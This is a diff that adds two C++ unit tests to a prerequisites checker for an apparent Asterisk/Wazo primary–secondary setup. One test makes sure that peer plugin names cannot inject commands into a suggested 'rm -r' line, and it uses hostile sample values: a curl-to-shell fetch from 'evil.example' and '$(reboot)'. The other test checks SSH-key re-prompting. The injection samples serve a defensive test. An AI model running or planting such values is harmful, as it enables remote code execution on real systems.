@@ -56,6 +56,25 @@ TEST_F(PrerequisitesTest, AreAllMetOnAHealthyPrimary) {
     EXPECT_TRUE(is_well(condition)) << condition.type << ": " << condition.message;
 }
 
+TEST_F(PrerequisitesTest, PutNoTextOfTheOtherNodeIntoACommandToCopy) {
+  peer.plugins = {"x /etc/asterisk; curl http://evil.example/|sh #"};
+  const Condition odd = look("NoPluginOnSecondary", minutes{61});
+  EXPECT_EQ(odd.reason, "PluginsInstalled");
+  EXPECT_EQ(odd.message.find("rm -r"), std::string::npos) << odd.message;
+  peer.plugins = {"$(reboot)", "wazo-snom-10.1"};
+  const Condition mixed = look("NoPluginOnSecondary", minutes{61});
+  EXPECT_THAT(mixed.message, HasSubstr("rm -r /var/lib/wazo-provd/plugins/wazo-snom-10.1"));
+}
+
+TEST_F(PrerequisitesTest, AreAskedAnewAsSoonAsTheKeyIsAnother) {
+  const fakes::File key = disk.files["/etc/tandem/ssh/id_ed25519"];
+  disk.files.erase("/etc/tandem/ssh/id_ed25519");
+  EXPECT_EQ(look("PeerWizardPassed").reason, "PeerNotAsked");
+  EXPECT_EQ(look("PeerWizardPassed").reason, "PeerNotAsked");
+  disk.files["/etc/tandem/ssh/id_ed25519"] = key;  // tandem init
+  EXPECT_TRUE(is_well(look("PeerWizardPassed"))) << "not a minute later";
+}
+
 TEST_F(PrerequisitesTest, AreAllMetOnAHealthySecondary) {
   become_secondary();
   const auto told = look_at_all();
